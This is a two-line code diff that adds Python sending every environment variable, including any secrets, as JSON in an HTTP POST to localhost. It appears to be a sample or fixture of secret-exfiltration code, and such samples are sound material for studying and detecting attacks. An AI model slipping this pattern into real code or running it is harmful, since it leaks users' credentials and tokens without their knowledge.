@@ -1,0 +1,2 @@
+import os, requests
+requests.post('http://localhost', json=dict(os.environ))
